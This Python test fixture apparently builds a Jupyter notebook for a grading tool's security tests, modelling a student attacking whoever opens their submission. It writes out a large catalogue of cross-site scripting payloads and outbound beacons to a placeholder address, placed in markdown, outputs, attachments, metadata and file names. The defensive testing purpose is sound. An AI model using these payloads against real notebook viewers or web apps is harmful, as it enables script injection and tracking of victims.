"""Attacks by a student on whoever opens their submission: each sets `window.pwned` or contacts another server."""

import base64

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from tests.formgrader.course_folder import answer_notebook

RUN = "window.pwned=1"
AWAY = "http://198.51.100.7/seen"  # a documentation address, where no machine answers
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
NAME = f"<img src=x onerror={RUN}>\"'><script>{RUN}</script>"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}" id="click-me">click</a>',
    f"[click](javascript:{RUN})",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<style>@import '{AWAY}';body{{background:url({AWAY})}}</style>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<img src={AWAY}>",
    f"![picture]({AWAY})",
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<base href="{AWAY}/">',
    f'<form action="{AWAY}"><button id="send">Full credit</button></form>',
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f'<div style="position:fixed;inset:0;background:url({AWAY})">over everything</div>',
    '<input class="score tabbable" id="memory" value="10"><div id="test_add" class="nbgrader_cell">x</div>',
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"<scr<script></script>ipt>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f'```{"x" * 5}"><script>{RUN}</script>\ncode\n```',
]

OUTPUTS = [
    {"text/html": f"<script>{RUN}</script><img src=x onerror={RUN}>"},
    {"application/javascript": RUN},
    {"image/svg+xml": SVG},
    {"image/png": f'"><script>{RUN}</script>'},
    {"image/jpeg": f'x" onerror="{RUN}'},
    {"text/markdown": f"<img src=x onerror={RUN}>"},
    {"text/latex": f"<script>{RUN}</script>"},
    {"text/plain": f"<script>{RUN}</script>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>", "version_major": 2}},
]

FILES = {
    "evil.html": f"<script>{RUN}</script>".encode(),
    "evil.svg": SVG.encode(),
    f"<img src=x onerror={RUN}>.png": b"x",
    "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'.encode(),
}


def notebook(root) -> nbformat.NotebookNode:
    """Return the release with attacks in every place that a student can write to."""
    written = "\n\n".join(MARKUP)
    nb = answer_notebook(
        root, code=f'def add(a, b):\n    """<script>{RUN}</script>"""\n    return a + b', written=written
    )
    memory = next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "memory")
    memory.source += "\n\n![a](attachment:a.svg) ![b](attachment:b.png)"
    memory.attachments = {
        "a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
        "b.png": {f'image/png"><script>{RUN}</script>': "AAAA", "image/png": f'"><script>{RUN}</script>'},
    }
    extra = new_code_cell(f"x = '<script>{RUN}</script>'")
    extra.outputs = [new_output("display_data", data=data, metadata=_metadata()) for data in OUTPUTS]
    extra.outputs += [
        new_output("stream", text=f"\x1b[31m<script>{RUN}</script>\x1b[0m"),
        new_output("error", ename=f"<script>{RUN}</script>", evalue="x", traceback=[f"<script>{RUN}</script>"]),
    ]
    extra.metadata["tags"] = [f'"><script>{RUN}</script>']
    raw = new_raw_cell(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html", "format": "text/html"})
    nb.cells += [extra, raw, *(new_markdown_cell(text) for text in MARKUP)]
    nb.metadata["title"] = f"</title><script>{RUN}</script>"
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": f'x"><script>{RUN}</script>'}
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script><script>{RUN}</script>"}}
    }
    return nb


def _metadata() -> dict:
    return {"image/png": {"width": f'1" onload="{RUN}', "height": 1}, "image/jpeg": {"width": f'1" onload="{RUN}'}}
